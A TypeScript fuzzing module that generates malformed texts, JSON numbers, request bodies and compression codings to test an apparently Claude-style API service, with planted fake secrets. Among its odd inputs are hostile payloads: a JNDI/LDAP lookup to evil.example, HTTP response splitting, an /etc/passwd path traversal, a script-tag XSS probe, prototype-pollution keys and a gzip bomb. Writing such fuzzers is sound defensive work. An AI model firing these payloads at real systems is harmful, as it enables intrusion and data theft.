/** Texts, numbers and bodies that a parser, a log or a label may stumble over. */
import { brotliCompressSync, constants, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import type { Random } from './random.ts';

/** Planted in what callers send and upstreams quote; it may be in no output. */
export const SECRETS = {
  key: 'sk-fuzz-key-of-the-upstream-0123',
  token: 'fuzz-token-of-a-caller-0123456789',
  cookie: 'fuzz-session-cookie-0123',
} as const;

const MODELS = ['claude-haiku-5-5', 'claude-sonnet-5-5', 'claude-opus-5-5-20260901'] as const;

const ODD_TEXTS: readonly string[] = [
  '',
  ' ',
  'x'.repeat(5_000),
  'Gr\u00fc\u00dfe, \u4f60\u597d, \u202eabc\u202c',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}'.repeat(50),
  'e\u0301'.repeat(300),
  '\u0000\u0001\u001b[31m\u007f',
  '\ufeff\u2028\u2029',
  '{"level":"fatal"}\n{"msg":"call"}',
  '\r\nx-evil: 1\r\n\r\nHTTP/1.1 200 OK\r\n\r\n',
  '\u0024{jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'event: message_stop\ndata: {}\n\n',
];

export function oddText(random: Random): string {
  return random.pick(ODD_TEXTS);
}

/** JSON numbers, as they are written. */
const ODD_NUMBERS: readonly string[] = [
  '0',
  '-0',
  '-1',
  '1e400',
  '-1e400',
  '1e-400',
  '0.1',
  '9007199254740993',
  '9'.repeat(400),
  '1.0',
  '2147483648',
];

export function oddNumber(random: Random): string {
  return random.pick(ODD_NUMBERS);
}

/** Any JSON text, of whatever shape. */
function oddJson(random: Random): string {
  const deep = random.int(1, 3_000);
  return random.pick([
    () => JSON.stringify(oddText(random)),
    () => oddNumber(random),
    () => random.pick(['null', 'true', '[]', '{}', '[[]]', '{"":null}', '{"__proto__":{"a":1}}']),
    () => '['.repeat(deep) + ']'.repeat(deep),
    () => `[${'0,'.repeat(random.int(1, 5_000))}0]`,
    () => '"\\ud800"',
    () => '"\\u0000"',
  ])();
}

/** A body that the API would take. */
export function goodMessage(random: Random, stream: boolean): string {
  const content = JSON.stringify(random.pick(['Hello', oddText(random) || 'x']));
  return `{"model":"${random.pick(MODELS)}","max_tokens":${random.int(1, 32)},"stream":${stream},"messages":[{"role":"user","content":${content}}]}`;
}

/** A body of the API of which one value is something else, or a field too many. */
function changedMessage(random: Random): string {
  const fields: Record<string, string> = {
    model: `"${random.pick(MODELS)}"`,
    max_tokens: '8',
    stream: 'false',
    messages: '[{"role":"user","content":"Hello"}]',
  };
  const name = random.pick([...Object.keys(fields), 'metadata', 'thinking', 'speed', '__proto__']);
  fields[name] = oddJson(random);
  const list = Object.entries(fields).map(([key, value]) => `"${key}":${value}`);
  // A key that comes twice is read by one parser as the first, by another as the second.
  if (random.chance(0.2)) list.push(`"${name}":${oddJson(random)}`);
  return `{${list.join(',')}}`;
}

function changedBytes(random: Random): Buffer {
  const bytes = Buffer.from(goodMessage(random, random.chance(0.5)));
  for (let n = random.int(1, 4); n > 0; n -= 1) {
    bytes.writeUInt8(random.int(0, 255), random.int(0, bytes.length - 1));
  }
  return bytes;
}

/** What is sent as the body of a request, whatever its reader makes of it. */
export function oddBody(random: Random): Buffer {
  return random.pick([
    () => Buffer.from(changedMessage(random)),
    () => Buffer.from(`{"requests":[{"params":${changedMessage(random)}}]}`),
    () => Buffer.from(`{"prompts":[${oddJson(random)}],"max_tokens":${oddNumber(random)}}`),
    () => Buffer.from(oddJson(random)),
    () => Buffer.from(goodMessage(random, false)).subarray(0, -random.int(1, 20)),
    () => Buffer.from(`\ufeff${goodMessage(random, false)}`),
    () => Buffer.from(goodMessage(random, false), 'utf16le'),
    () => changedBytes(random),
    () => random.bytes(random.int(0, 400)),
    () => Buffer.from(`{"model":"${'m'.repeat(200_000)}"}`),
    // Over the limit of the service that is fuzzed.
    () => Buffer.alloc(random.int(300_000, 1_500_000), ' '),
  ])();
}

const CODERS: Readonly<Record<string, (body: Buffer) => Buffer>> = {
  gzip: (body) => gzipSync(body),
  deflate: (body) => deflateSync(body),
  br: (body) => brotliCompressSync(body, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
  zstd: (body) => zstdCompressSync(body),
};

/** @returns a body in a coding, as it should be or not, with the name that it is sent under */
export function coded(random: Random, body: Buffer): { coding: string; bytes: Buffer } {
  const coding = random.pick(Object.keys(CODERS));
  const bytes = CODERS[coding]?.(body) ?? body;
  return random.pick([
    () => ({ coding, bytes }),
    () => ({ coding, bytes: bytes.subarray(0, random.int(0, bytes.length)) }),
    () => ({ coding, bytes: body }),
    () => ({ coding, bytes: Buffer.concat([bytes, Buffer.from('more')]) }),
    () => ({ coding, bytes: gzipSync(Buffer.alloc(2_000_000)) }),
    () => ({ coding: random.pick(['gzip, br', 'nonsense', '*', '', 'identity']), bytes }),
  ])();
}
